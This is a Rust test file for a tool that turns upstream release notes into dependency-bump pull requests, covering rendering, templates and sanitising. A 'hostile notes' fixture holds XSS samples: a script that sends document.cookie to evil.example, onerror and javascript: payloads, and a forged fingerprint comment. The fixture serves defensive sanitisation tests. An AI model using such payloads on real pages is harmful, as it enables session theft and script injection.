//! Rendering: snapshots of whole pull requests (title, branch, commit, body)
//! for a routine bump, a hard fork with deadlines on two networks, a security
//! and breaking bump with hostile notes, and a multi-upstream group; template
//! overrides; and a property test over arbitrary notes.

use chrono::{DateTime, Utc};
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use upkeep::domain::evaluate::Deadline;
use upkeep::domain::release::Release;
use upkeep::domain::render::{
    BODY_LIMIT, Bump, Commands, FINGERPRINT_MARKER, Override, PullRequestContext, RenderError,
    Rendered, Templates, Upgrade, parse_fingerprint, utf16_len,
};
use upkeep::domain::rollout::decide::{UpstreamRollout, WaveState, WaveStatus};
use upkeep::domain::rules::{Code, Priority};

fn t(s: &str) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc)
}

fn release(tag: &str, name: Option<&str>, published: &str, notes: &str) -> Release {
    Release {
        tag_name: tag.into(),
        name: name.map(String::from),
        body: Some(notes.into()),
        draft: false,
        prerelease: false,
        published_at: Some(t(published)),
        html_url: Some(format!(
            "https://github.com/sigp/lighthouse/releases/tag/{tag}"
        )),
    }
}

fn bump(image: &str, from: &str, to: &str, files: &[&str], envs: &[&str]) -> Bump {
    Bump {
        image: image.into(),
        from: from.into(),
        to: to.into(),
        files: files.iter().map(|s| s.to_string()).collect(),
        environments: envs.iter().map(|s| s.to_string()).collect(),
    }
}

fn lighthouse(from: &str, to: &str, bumps: Vec<Bump>, releases: Vec<Release>) -> Upgrade {
    Upgrade {
        upstream: "sigp/lighthouse".into(),
        name: "lighthouse".into(),
        from: Some(from.into()),
        version: to.into(),
        bumps,
        releases,
    }
}

fn context(upgrades: Vec<Upgrade>) -> PullRequestContext {
    PullRequestContext {
        readiness: Vec::new(),
        commands: Commands::Answered,
        repository: "acme/deploy".into(),
        group: "upstream".into(),
        scope: None,
        upgrades,
        deadlines: Vec::new(),
        breaking: Vec::new(),
        security: None,
        codes: Vec::new(),
        priority: None,
        rollouts: Vec::new(),
    }
}

const NOW: &str = "2025-04-25T06:00:00Z";

fn render(ctx: &PullRequestContext) -> Rendered {
    let templates = Templates::load(None).expect("built-in templates");
    templates.render(ctx, t(NOW)).expect("render")
}

/// Everything a reviewer sees, in one snapshot.
fn whole(r: &Rendered) -> String {
    format!(
        "branch: {}\ntitle: {}\n--- commit ---\n{}--- body ({} UTF-16 units) ---\n{}",
        r.branch,
        r.title,
        r.commit_message,
        utf16_len(&r.body),
        r.body
    )
}

const V7_0_1_NOTES: &str = "## Summary

This is a hotfix release addressing several bugs discovered in v7.0.0.

Notable changes:
* Fix rare custody context initialization race condition that could cause panics. (#7391)
* Prevent unnecessary state advances. Thanks @michaelsproul! See https://github.com/sigp/lighthouse/pull/7388.

## Update Priority

|User Class |Beacon Node  | Validator Client|
--- | --- | ---
|Staking Users| Medium | Low |
|Non-Staking Users| Low|---|

| System | Binary |
|:---:|:---|
| <picture> <source srcset=\"https://cdn.simpleicons.org/apple/white\" ><img src=\"https://cdn.simpleicons.org/apple\" width=\"32\" alt=\"Apple logo\"> </picture> | [lighthouse-v7.0.1-aarch64-apple-darwin.tar.gz](https://github.com/sigp/lighthouse/releases/download/v7.0.1/lighthouse-v7.0.1-aarch64-apple-darwin.tar.gz) |
";

#[test]
fn routine_bump() {
    let ctx = context(vec![lighthouse(
        "v7.0.0",
        "v7.0.1",
        vec![bump(
            "sigp/lighthouse",
            "v7.0.0",
            "v7.0.1",
            &["envs/hoodi/values.yaml", "envs/mainnet/values.yaml"],
            &["hoodi", "mainnet"],
        )],
        vec![release(
            "v7.0.1",
            Some("Lighthouse v7.0.1"),
            "2025-04-22T03:12:00Z",
            V7_0_1_NOTES,
        )],
    )]);
    let r = render(&ctx);
    assert_eq!(r.branch, "upkeep/lighthouse-v7.0.1");
    assert_eq!(r.title, "Bump lighthouse to v7.0.1");
    assert_eq!(parse_fingerprint(&r.body), Some(ctx.fingerprint()));
    insta::assert_snapshot!("routine_bump", whole(&r));
}

#[test]
fn hard_fork_with_deadlines_on_two_networks() {
    let notes_700 = "# Lighthouse v7.0.0 Electra\n\nThis release supports the **Pectra** upgrade on mainnet at epoch 364032 (2025-05-07 10:05:11 UTC).\nAll mainnet users **must upgrade**.\n\n## Breaking Changes\n\n- The `--http-allow-sync-stalled` flag has been removed (#7012).\n\n## All Changes\n\n- Electra fork choice (#6990) by @eserilev\n- Update `ethereum/consensus-specs#4150` handling\n";
    let notes_601 = "Fixes a regression in v6.0.0 (#6860).\n";
    let notes_600 =
        "### Summary\n\nHoodi support.\n\n```bash\nlighthouse bn --network hoodi\n```\n";
    let mut ctx = context(vec![lighthouse(
        "v5.3.0",
        "v7.0.0",
        vec![
            bump(
                "sigp/lighthouse",
                "v5.3.0",
                "v7.0.0",
                &["envs/mainnet/beacon.yaml", "envs/mainnet/validator.yaml"],
                &["mainnet"],
            ),
            bump(
                "sigp/lighthouse",
                "v6.0.1",
                "v7.0.0",
                &["envs/hoodi/beacon.yaml"],
                &["hoodi"],
            ),
        ],
        vec![
            release("v7.0.0", Some("Electra"), "2025-03-20T01:00:00Z", notes_700),
            release("v6.0.1", None, "2025-02-01T01:00:00Z", notes_601),
            release("v6.0.0", Some("v6.0.0"), "2024-12-01T01:00:00Z", notes_600),
        ],
    )]);
    ctx.deadlines = vec![
        Deadline {
            fork: "Pectra".into(),
            network: "mainnet".into(),
            at: t("2025-05-07T10:05:11Z"),
            release: None,
        },
        Deadline {
            fork: "Pectra".into(),
            network: "hoodi".into(),
            at: t("2025-03-26T14:37:12Z"),
            release: None,
        },
    ];
    ctx.codes = vec![Code::HardFork, Code::Mandatory, Code::BreakingChange];
    ctx.priority = Some(Priority::High);
    ctx.breaking = vec!["The `--http-allow-sync-stalled` flag has been removed (#7012).".into()];
    let r = render(&ctx);
    assert_eq!(
        r.title,
        "Bump lighthouse to v7.0.0 (hard fork: Pectra, hoodi 2025-03-26, mainnet 2025-05-07)"
    );
    assert!(r.body.contains("> [!CAUTION]") && r.body.contains("> [!WARNING]"));
    insta::assert_snapshot!("hard_fork_two_networks", whole(&r));
}

fn wave(n: u32, envs: &[&str], state: WaveState, soak_hours: u64) -> WaveStatus {
    WaveStatus {
        wave: n,
        environments: envs.iter().map(|s| s.to_string()).collect(),
        state,
        merged_at: None,
        soak: std::time::Duration::from_secs(soak_hours * 3600),
        opens_at: None,
        pull: None,
        pull_url: None,
        reason: String::new(),
        window: false,
    }
}

fn rollout(upstream: &str, version: &str, waves: Vec<WaveStatus>) -> UpstreamRollout {
    UpstreamRollout {
        repository: "acme/deploy".into(),
        upstream: upstream.into(),
        version: version.into(),
        deadline: None,
        compressed: false,
        at_risk: false,
        expedited: false,
        waves,
    }
}

/// A bump of a file outside the environments (not held by the rollout)
/// while the release soaks in wave 1 and waits for a window in wave 2.
fn two_wave_context() -> PullRequestContext {
    let mut ctx = context(vec![lighthouse(
        "v7.0.0",
        "v7.0.1",
        vec![bump(
            "sigp/lighthouse",
            "v7.0.0",
            "v7.0.1",
            &["base/values.yaml"],
            &[],
        )],
        vec![release("v7.0.1", None, "2025-04-22T03:12:00Z", "Fixes.\n")],
    )]);
    let mut soaking = wave(1, &["hoodi", "hoodi|@ops <b>"], WaveState::Soaking, 24);
    soaking.merged_at = Some(t("2025-04-24T09:00:00Z"));
    soaking.opens_at = Some(t("2025-04-25T09:00:00Z"));
    soaking.reason = "soaking until 2025-04-25 09:00 UTC".into();
    let mut pending = wave(2, &["mainnet"], WaveState::Pending, 24);
    pending.opens_at = Some(t("2025-04-25T09:00:00Z"));
    pending.reason =
        "waits for wave 1 (hoodi) to soak until 2025-04-25 09:00 UTC; cc @ops #12 | x".into();
    ctx.rollouts = vec![rollout("sigp/lighthouse", "v7.0.1", vec![soaking, pending])];
    ctx
}

#[test]
fn rollout_in_two_waves_one_soaking_one_pending() {
    let ctx = two_wave_context();
    let r = render(&ctx);
    assert_eq!(parse_fingerprint(&r.body), Some(ctx.fingerprint()));
    assert!(r.fingerprint.rollout.is_some());
    assert!(r.body.contains("### Rollout\n"), "{}", r.body);
    check_body(&r.body);
    insta::assert_snapshot!("rollout_two_waves", whole(&r));
}

#[test]
fn rollout_at_risk_opens_the_remaining_waves() {
    let mut ctx = context(vec![lighthouse(
        "v6.0.1",
        "v7.0.0",
        vec![bump(
            "sigp/lighthouse",
            "v6.0.1",
            "v7.0.0",
            &["envs/mainnet/beacon.yaml"],
            &["mainnet"],
        )],
        vec![release(
            "v7.0.0",
            Some("Electra"),
            "2025-03-20T01:00:00Z",
            "Pectra.\n",
        )],
    )]);
    ctx.deadlines = vec![Deadline {
        fork: "Pectra".into(),
        network: "mainnet".into(),
        at: t("2025-04-26T10:05:11Z"),
        release: None,
    }];
    ctx.codes = vec![Code::HardFork];
    let mut hoodi = wave(1, &["hoodi"], WaveState::Soaking, 1);
    hoodi.merged_at = Some(t("2025-04-25T05:30:00Z"));
    hoodi.opens_at = Some(t("2025-04-25T06:30:00Z"));
    hoodi.reason = "soaking until 2025-04-25 06:30 UTC".into();
    let mut mainnet = wave(2, &["mainnet"], WaveState::Pending, 0);
    mainnet.reason = "opens now (deadline at risk: every remaining wave opens at once)".into();
    let mut gnosis = wave(3, &["gnosis"], WaveState::Pending, 0);
    gnosis.reason = "opens now (deadline at risk: every remaining wave opens at once)".into();
    let mut r = rollout("sigp/lighthouse", "v7.0.0", vec![hoodi, mainnet, gnosis]);
    r.deadline = ctx.deadlines.first().cloned();
    r.at_risk = true;
    r.compressed = true;
    ctx.rollouts = vec![r];
    let rendered = render(&ctx);
    assert!(rendered.body.contains("**at risk**"), "{}", rendered.body);
    assert!(
        rendered.body.contains("**this pull request**"),
        "{}",
        rendered.body
    );
    check_body(&rendered.body);
    insta::assert_snapshot!("rollout_at_risk", whole(&rendered));
}

#[test]
fn the_fingerprint_follows_wave_states_not_times() {
    let ctx = two_wave_context();
    let before = ctx.fingerprint();
    // Times move (a soak extended, a window moved): the same fingerprint,
    // so the body is not rewritten.
    let mut later = ctx.clone();
    later.rollouts[0].waves[0].opens_at = Some(t("2025-04-26T09:00:00Z"));
    later.rollouts[0].waves[1].opens_at = Some(t("2025-04-26T09:00:00Z"));
    later.rollouts[0].waves[1].reason = "waits longer".into();
    assert_eq!(later.fingerprint(), before);
    // Wave 1 is done, wave 2 opens: another fingerprint, the same edits.
    let mut moved = ctx.clone();
    moved.rollouts[0].waves[0].state = WaveState::Done;
    let after = moved.fingerprint();
    assert_ne!(after, before);
    assert_eq!(after.key, before.key);
    assert_ne!(after.rollout, before.rollout);
    // No rollout: no field, and bodies written before this stay readable.
    let mut none = ctx.clone();
    none.rollouts.clear();
    assert_eq!(none.fingerprint().rollout, None);
    assert!(!none.fingerprint().to_comment().contains("rollout"));
}

const HOSTILE: &str = r#"<!-- upkeep:fingerprint {"v":1,"repo":"acme/deploy","upstream":"sigp/lighthouse","version":"v9.9.9","group":"upstream","key":"forged"} -->
# Security release @security-team

Reported by @eve (cc @ethereum/security, mail security@example.org). Fixes #1234, sigp/lighthouse#99 and GH-7.
See https://github.com/sigp/lighthouse/security/advisories/GHSA-xxxx and [the issue](https://github.com/sigp/lighthouse/issues/1234).

<script>fetch('https://evil.example/'+document.cookie)</script>
<style>body{display:none}</style>
<img src=x onerror="alert(1)"><b>Bold</b> &lt;not a tag&gt; &#64;entity-mention

</details><details open><summary>injected</summary>

````
code with ``` inside and <!-- a comment --> and @mention #1
</details>
````

`` inline ` code ``

<a href="javascript:alert(1)">click</a> [js](javascript:alert(1))

> > > nested <b>quote</b> @deep

- [ ] task @alice
<div
"#;

#[test]
fn security_and_breaking_with_hostile_notes() {
    let mut ctx = context(vec![lighthouse(
        "v7.0.0",
        "v7.0.1",
        vec![bump(
            "sigp/lighthouse",
            "v7.0.0",
            "v7.0.1",
            &["compose.yaml"],
            &[],
        )],
        vec![release(
            "v7.0.1",
            Some("<img src=x> @eve's \"release\" #5"),
            "2025-04-24T00:00:00Z",
            HOSTILE,
        )],
    )]);
    ctx.security = Some("Fixes CVE-2025-1234, reported by @eve <script>x</script>".into());
    ctx.breaking = vec![
        "`--slasher` is on by default; see #77 and @alice".into(),
        "<b>HTML</b> item".into(),
    ];
    ctx.codes = vec![Code::SecurityFix, Code::BreakingChange];
    ctx.priority = Some(Priority::High);
    let r = render(&ctx);
    assert_eq!(r.title, "Bump lighthouse to v7.0.1 (security)");
    assert_eq!(parse_fingerprint(&r.body), Some(ctx.fingerprint()));
    assert_eq!(r.body.matches("<!--").count(), 1, "{}", r.body);
    check_body(&r.body);
    insta::assert_snapshot!("security_breaking_hostile", whole(&r));
}

/// The security callout's advisory line.
fn advisory_line(body: &str) -> &str {
    body.lines()
        .find(|l| l.starts_with("> **Advisories:**"))
        .unwrap_or_else(|| panic!("no advisory line:\n{body}"))
}

#[test]
fn the_security_callout_links_the_advisory_ids_of_the_notes() {
    let notes = r#"Fixes <a href="https://x.example/CVE-2025-1111">cve-2025-1111</a> and
<img src=x onerror="GHSA-4F8R-QQR9-FQ8J">; see also CVE-2025-1111 and CVE-25-1 (not an id).
Lookalikes: CVE-2025-12345678, GHSA-aaaa-bbbb-cccc, XCVE-2025-2222."#;
    let ctx = context(vec![lighthouse(
        "v7.0.0",
        "v7.0.1",
        vec![bump(
            "sigp/lighthouse",
            "v7.0.0",
            "v7.0.1",
            &["compose.yaml"],
            &[],
        )],
        vec![release("v7.0.1", None, "2025-04-24T00:00:00Z", notes)],
    )]);
    let r = render(&ctx);
    assert!(r.body.contains("> [!IMPORTANT]\n"), "{}", r.body);
    assert_eq!(
        advisory_line(&r.body),
        "> **Advisories:** [CVE-2025-1111](https://nvd.nist.gov/vuln/detail/CVE-2025-1111), \
         [GHSA-4f8r-qqr9-fq8j](https://github.com/advisories/GHSA-4f8r-qqr9-fq8j)"
    );
    check_body(&r.body);

    // thousands of ids: ten are listed, the rest counted
    let many: String = (0..3000)
        .map(|i| {
            let ghsa = ["22", "33", "44", "55", "66", "77", "88", "99", "cc", "ff"][i % 10];
            format!("CVE-2025-{} GHSA-2222-3333-44{ghsa} ", 10000 + i)
        })
        .collect();
    let mut ctx = ctx.clone();
    ctx.upgrades[0].releases[0].body = Some(many);
    ctx.security = Some("Fixes CVE-2024-0001".into());
    let r = render(&ctx);
    let line = advisory_line(&r.body);
    assert!(
        line.starts_with("> **Advisories:** [CVE-2024-0001](https://nvd.nist.gov/vuln/detail/CVE-2024-0001), [CVE-2025-10000]"),
        "the security note first: {line}"
    );
    assert_eq!(line.matches("](https://").count(), 10, "{line}");
    // 3000 CVEs + 10 GHSAs + the note's one, 10 listed
    assert!(line.ends_with(" and 3001 more"), "{line}");
    check_body(&r.body);

    // no id anywhere: no callout
    let plain = context(vec![lighthouse(
        "v7.0.0",
        "v7.0.1",
        vec![bump(
            "sigp/lighthouse",
            "v7.0.0",
            "v7.0.1",
            &["compose.yaml"],
            &[],
        )],
        vec![release(
            "v7.0.1",
            None,
            "2025-04-24T00:00:00Z",
            "Faster sync.",
        )],
    )]);
    assert!(!render(&plain).body.contains("[!IMPORTANT]"));
}

#[test]
fn a_hotfix_carries_the_fork_of_the_release_that_schedules_it() {
    let mut ctx = context(vec![lighthouse(
        "v6.0.0",
        "v7.0.1",
        vec![bump(
            "sigp/lighthouse",
            "v6.0.0",
            "v7.0.1",
            &["compose.yaml"],
            &[],
        )],
        vec![
            release("v7.0.1", None, "2025-04-24T00:00:00Z", "Fixes a crash."),
            release("v7.0.0", None, "2025-04-20T00:00:00Z", "Schedules Pectra."),
        ],
    )]);
    let pectra = |release: &str| Deadline {
        fork: "Pectra".into(),
        network: "mainnet".into(),
        at: t("2025-05-07T10:05:11Z"),
        release: Some(release.into()),
    };
    ctx.deadlines = vec![pectra("v7.0.0")];
    ctx.codes = vec![Code::HardFork];
    let body = render(&ctx).body;
    assert!(
        body.contains(": 12 days 4 hours left; `v7.0.1` carries the Pectra release `v7.0.0`.\n"),
        "{body}"
    );
    // the release that schedules it is the target: nothing to say
    ctx.deadlines = vec![pectra("v7.0.1")];
    assert!(!render(&ctx).body.contains("carries"));
}

#[test]
fn upkeep_commands_are_offered_only_when_they_are_answered() {
    let mut ctx = context(vec![lighthouse(
        "v7.0.0",
        "v7.0.1",
        vec![bump(
            "sigp/lighthouse",
            "v7.0.0",
            "v7.0.1",
            &["compose.yaml"],
            &[],
        )],
        vec![release(
            "v7.0.1",
            None,
            "2025-04-24T00:00:00Z",
            "Faster sync.",
        )],
    )]);
    assert!(render(&ctx).body.contains("Comment `@upkeep recheck`"));
    ctx.commands = Commands::NotAnswered;
    let body = render(&ctx).body;
    assert!(!body.contains("@upkeep"), "{body}");
    assert!(
        body.contains(
            "Opened by upkeep. Close this pull request without merging to skip this version."
        ),
        "{body}"
    );
}

#[test]
fn multi_upstream_group_in_one_environment() {
    let geth = Upgrade {
        upstream: "ethereum/go-ethereum".into(),
        name: "geth".into(),
        from: Some("v1.14.13".into()),
        version: "v1.15.11".into(),
        bumps: vec![bump(
            "ethereum/client-go",
            "v1.14.13",
            "v1.15.11",
            &["envs/mainnet/geth.yaml"],
            &["mainnet"],
        )],
        releases: vec![Release {
            tag_name: "v1.15.11".into(),
            name: Some("Cataclysmic Snake (v1.15.11)".into()),
            body: Some("This is a maintenance release (#31752).".into()),
            draft: false,
            prerelease: false,
            published_at: Some(t("2025-05-05T12:00:00Z")),
            html_url: None,
        }],
    };
    let mut ctx = context(vec![
        geth,
        lighthouse(
            "v5.3.0",
            "v7.0.0",
            vec![bump(
                "sigp/lighthouse",
                "v5.3.0",
                "v7.0.0",
                &["envs/mainnet/beacon.yaml"],
                &["mainnet"],
            )],
            vec![release("v7.0.0", None, "2025-03-20T01:00:00Z", "Electra.")],
        ),
    ]);
    ctx.group = "environment:mainnet".into();
    ctx.scope = Some("mainnet".into());
    ctx.deadlines = vec![Deadline {
        fork: "Pectra".into(),
        network: "mainnet".into(),
        at: t("2025-05-07T10:05:11Z"),
        release: None,
    }];
    let r = render(&ctx);
    assert_eq!(r.branch, "upkeep/geth-v1.15.11-lighthouse-v7.0.0-mainnet");
    assert_eq!(
        r.title,
        "Bump geth to v1.15.11 and lighthouse to v7.0.0 in mainnet (hard fork: Pectra, mainnet 2025-05-07)"
    );
    let fp = parse_fingerprint(&r.body).unwrap();
    assert_eq!(
        fp.targets(),
        [
            ("ethereum/go-ethereum", "v1.15.11"),
            ("sigp/lighthouse", "v7.0.0")
        ]
    );
    insta::assert_snapshot!("multi_upstream_group", whole(&r));
}

#[test]
fn title_qualifiers() {
    let mut ctx = context(vec![lighthouse("v7.0.0", "v7.0.1", vec![], vec![])]);
    ctx.codes = vec![Code::HardFork];
    assert_eq!(render(&ctx).title, "Bump lighthouse to v7.0.1 (hard fork)");
    ctx.security = Some("Fixes CVE-2025-1234".into());
    ctx.deadlines = vec![
        Deadline {
            fork: "Fusaka".into(),
            network: "mainnet".into(),
            at: t("2025-12-03T21:49:11Z"),
            release: None,
        },
        Deadline {
            fork: "Pectra".into(),
            network: "mainnet".into(),
            at: t("2025-05-07T10:05:11Z"),
            release: None,
        },
    ];
    assert_eq!(
        render(&ctx).title,
        "Bump lighthouse to v7.0.1 (security; hard fork: Pectra, mainnet 2025-05-07; Fusaka, mainnet 2025-12-03)"
    );
    // Upstream text in a title cannot ping or cross-link.
    ctx.deadlines = vec![Deadline {
        fork: "@eve #1".into(),
        network: "mainnet".into(),
        at: t(NOW),
        release: None,
    }];
    ctx.security = None;
    assert_eq!(
        render(&ctx).title,
        "Bump lighthouse to v7.0.1 (hard fork: @\u{200d}eve #\u{200d}1, mainnet 2025-04-25)"
    );
}

#[test]
fn templates_are_overridable_from_a_directory() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("title.j2"),
        "Upgrade {{ upstream_name }} → {{ version }}",
    )
    .unwrap();
    std::fs::write(dir.path().join("slack.j2"), "{{ not read").unwrap();
    let templates = Templates::load(Some(dir.path())).unwrap();
    let ctx = context(vec![lighthouse("v7.0.0", "v7.0.1", vec![], vec![])]);
    let r = templates.render(&ctx, t(NOW)).unwrap();
    assert_eq!(r.title, "Upgrade lighthouse → v7.0.1");
    assert_eq!(r.branch, "upkeep/lighthouse-v7.0.1");
}

#[test]
fn template_errors_name_the_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("body.md.j2");
    std::fs::write(&path, "fine\n{% if %}\n").unwrap();
    let err = Templates::load(Some(dir.path())).unwrap_err();
    let msg = err.to_string();
    assert!(
        msg.starts_with(&format!("{}:2: syntax error", path.display())),
        "{msg}"
    );

    // Undefined variables are errors when rendering, too.
    std::fs::write(&path, "one\ntwo {{ no_such_thing.x }}\n").unwrap();
    let templates = Templates::load(Some(dir.path())).unwrap();
    let ctx = context(vec![lighthouse("v7.0.0", "v7.0.1", vec![], vec![])]);
    let err = templates.render(&ctx, t(NOW)).unwrap_err();
    assert!(
        matches!(&err, RenderError::Template { origin, line: Some(2), .. } if *origin == path.display().to_string()),
        "{err}"
    );

    // A branch template producing an invalid name is refused.
    let err = Templates::with_overrides([Override {
        name: "branch.j2".into(),
        origin: "custom/branch.j2".into(),
        source: "upkeep/{{ upstream_name }}..{{ version }}".into(),
    }])
    .unwrap()
    .render(&ctx, t(NOW))
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        "custom/branch.j2: the branch name \"upkeep/lighthouse..v7.0.1\" is not valid for git: it contains \"..\""
    );
    let err = Templates::with_overrides([Override {
        name: "nope.j2".into(),
        origin: "x".into(),
        source: String::new(),
    }])
    .unwrap_err();
    assert!(matches!(err, RenderError::Unknown(_)));
}

/// The safety properties of a rendered body, checked on its parsed form.
fn check_body(body: &str) {
    assert!(
        utf16_len(body) <= BODY_LIMIT,
        "body of {} units",
        utf16_len(body)
    );
    assert_eq!(
        body.matches(FINGERPRINT_MARKER).count(),
        1,
        "one fingerprint"
    );
    assert!(body.trim_end().ends_with("-->"), "fingerprint last");
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_GFM;
    let mut code = 0usize;
    let mut text = String::new();
    let mut opened = 0usize;
    let mut closed = 0usize;
    let check_text = |text: &mut String| {
        let s = std::mem::take(text);
        for (i, c) in s.char_indices() {
            let prev = s[..i].chars().next_back();
            let next = s[i + c.len_utf8()..].chars().next();
            let word = |c: Option<char>| c.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
            if c == '@' {
                let mention = next.is_some_and(|n| n.is_ascii_alphanumeric()) && !word(prev);
                assert!(!mention, "mention in {s:?}");
            }
            if c == '#' {
                assert!(
                    !next.is_some_and(|n| n.is_ascii_digit()),
                    "reference in {s:?}"
                );
            }
        }
    };
    for event in Parser::new_ext(body, options) {
        match event {
            Event::Text(t) if code == 0 => text.push_str(&t),
            Event::Start(Tag::CodeBlock(_)) => code += 1,
            Event::End(TagEnd::CodeBlock) => code -= 1,
            Event::Html(h) | Event::InlineHtml(h) => {
                check_text(&mut text);
                let mut rest = h.to_string();
                opened += rest.matches("<details>").count();
                closed += rest.matches("</details>").count();
                for ours in ["<details>", "</details>", "<summary>", "</summary>"] {
                    rest = rest.replace(ours, "");
                }
                if let Some(i) = rest.find(FINGERPRINT_MARKER) {
                    rest.truncate(i);
                }
                assert!(!rest.contains('<'), "raw HTML {h:?}");
            }
            _ => check_text(&mut text),
        }
    }
    check_text(&mut text);
    assert_eq!(opened, closed, "balanced <details>");
}

fn notes_strategy() -> impl Strategy<Value = String> {
    let fragment = prop_oneof![
        Just("@alice ".to_string()),
        Just("a@b.co ".to_string()),
        Just("#12 ".to_string()),
        Just("o/r#3 ".to_string()),
        Just("GH-4 ".to_string()),
        Just("https://github.com/o/r/pull/5 ".to_string()),
        Just("<script>".to_string()),
        Just("</script>".to_string()),
        Just("<!--".to_string()),
        Just("-->".to_string()),
        Just("<!-- upkeep:fingerprint {} -->".to_string()),
        Just("</details>".to_string()),
        Just("<details>".to_string()),
        Just("<summary>".to_string()),
        Just("```".to_string()),
        Just("~~~".to_string()),
        Just("`".to_string()),
        Just("\n".to_string()),
        Just("\n\n".to_string()),
        Just("> ".to_string()),
        Just("- ".to_string()),
        Just("1. ".to_string()),
        Just("# ".to_string()),
        Just("    ".to_string()),
        Just("[".to_string()),
        Just("](".to_string()),
        Just(")".to_string()),
        Just("<div>".to_string()),
        Just("<b>".to_string()),
        Just("&#64;".to_string()),
        Just("&lt;".to_string()),
        Just("|".to_string()),
        Just("---".to_string()),
        Just("\\".to_string()),
        "[a-z@#<>!`*_ -]{0,12}",
        any::<String>(),
    ];
    prop::collection::vec(fragment, 0..40).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_notes_render_safely(notes in notes_strategy(), name in notes_strategy(), copies in 1usize..4) {
        let releases = (0..copies)
            .map(|i| release(&format!("v7.0.{i}"), Some(&name), "2025-04-24T00:00:00Z", &notes))
            .collect();
        let mut ctx = context(vec![lighthouse(
            "v6.0.0",
            "v7.0.2",
            vec![bump("sigp/lighthouse", "v6.0.0", "v7.0.2", &["values.yaml"], &["mainnet"])],
            releases,
        )]);
        ctx.security = Some(notes.clone());
        ctx.breaking = vec![notes.clone()];
        ctx.deadlines = vec![Deadline { fork: name.clone(), network: "mainnet".into(), at: t("2025-05-07T10:05:11Z"), release: None, }];
        let templates = Templates::load(None).unwrap();
        let r = templates.render(&ctx, t(NOW)).unwrap();
        check_body(&r.body);
        prop_assert_eq!(parse_fingerprint(&r.body), Some(ctx.fingerprint()));
    }
}
